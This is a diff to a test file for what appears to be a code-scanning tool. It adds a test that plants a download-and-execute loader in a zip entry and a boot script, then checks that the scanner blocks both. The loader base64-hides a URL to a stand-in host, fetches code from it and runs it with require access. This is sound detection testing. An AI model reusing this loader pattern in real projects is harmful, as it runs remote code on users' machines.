@@ -7,7 +7,8 @@ import assert from 'node:assert/strict';
 import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { AnalysisPool } from '../src/analysis/source-pool.js';
-import { analyseFile, sourceIndex } from '../src/analysis/source-index.js';
+import { analyseFile, passesPrefilter, RETAINED_TEXT, sourceIndex } from '../src/analysis/source-index.js';
+import yazl from 'yazl';
 import { acquireLocal } from '../src/acquire/local.js';
 import { loadSignatures } from '../src/signatures/load.js';
 import { DEFAULT_LIMITS } from '../src/options.js';
@@ -113,8 +114,7 @@ describe('analysis worker pool', function () {
 });
 
 describe('prefilter windows', () => {
-  it('finds a token in a large file wherever it falls, including across a window boundary', async () => {
-    const { passesPrefilter } = await import('../src/analysis/source-index.js');
+  it('finds a token in a large file wherever it falls, including across a window boundary', () => {
     const size = 3 * 128 * 1024 + 77;
     for (const at of [0, 128 * 1024 - 3, 128 * 1024 - 1, 128 * 1024, 2 * 128 * 1024 - 10, size - 6]) {
       const buf = Buffer.alloc(size, 0x20);
@@ -124,5 +124,38 @@ describe('prefilter windows', () => {
     const clean = Buffer.alloc(size, 0x20);
     clean.write('retrieval(', 128 * 1024 - 5, 'latin1');
     assert.equal(passesPrefilter('js', clean, sigs), false, 'retrieval( across a boundary is not eval(');
+  });
+});
+
+describe('source text past the index memory budget', () => {
+  it('is read again from the folder when a rule asks, and entries of nested archives keep theirs', async () => {
+    const loader = 'const u = atob("aHR0cDovLzE5OC41MS4xMDAuNzoxMjI0L3Bkb3du");\nfetch(u).then((r) => r.text()).then((c) => new Function("require", c)(require));\n';
+    const zip = await new Promise<Buffer>((resolve) => {
+      const z = new yazl.ZipFile();
+      z.addBuffer(Buffer.from(loader), 'setup/install.js');
+      const parts: Buffer[] = [];
+      z.outputStream.on('data', (d: Buffer) => parts.push(d));
+      z.outputStream.on('end', () => resolve(Buffer.concat(parts)));
+      z.end();
+    });
+    const { dir, cleanup } = tempDir();
+    const saved = RETAINED_TEXT.chars;
+    try {
+      mkdirSync(path.join(dir, 'assets'), { recursive: true });
+      mkdirSync(path.join(dir, 'server'), { recursive: true });
+      writeFileSync(path.join(dir, 'assets', 'setup.zip'), zip);
+      writeFileSync(path.join(dir, 'server', 'boot.js'), `// boot\n${loader}`);
+      const kept = await scanFolder(dir);
+      RETAINED_TEXT.chars = 0;
+      const released = await scanFolder(dir);
+      assert.equal(kept.verdict, 'block');
+      const files = (r: typeof kept) => [...new Set(r.findings.filter((f) => f.ruleId === 'remote-code-execution').map((f) => f.location.file))].sort();
+      assert.deepEqual(files(kept), ['assets/setup.zip!/setup/install.js', 'server/boot.js']);
+      assert.deepEqual(released.findings, kept.findings);
+      assert.ok(released.findings.every((f) => f.location.snippet), 'a finding lost its snippet');
+    } finally {
+      RETAINED_TEXT.chars = saved;
+      cleanup();
+    }
   });
 });
